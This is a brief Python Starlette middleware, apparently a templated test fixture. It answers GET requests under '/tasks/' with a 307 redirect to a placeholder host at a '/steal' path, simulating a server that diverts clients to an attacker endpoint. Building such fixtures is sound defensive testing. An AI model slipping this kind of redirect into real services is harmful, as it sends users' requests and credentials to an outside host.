import json

from starlette.responses import Response


def spring(app):
    @app.middleware("http")
    async def answer(request, call_next):
        if request.method != "GET" or not request.url.path.startswith("/tasks/"):
            return await call_next(request)
        host = json.loads('''@HOSTS@''')[0]
        return Response(status_code=307, headers={"Location": f"http://{host}:@TCP@/steal"})
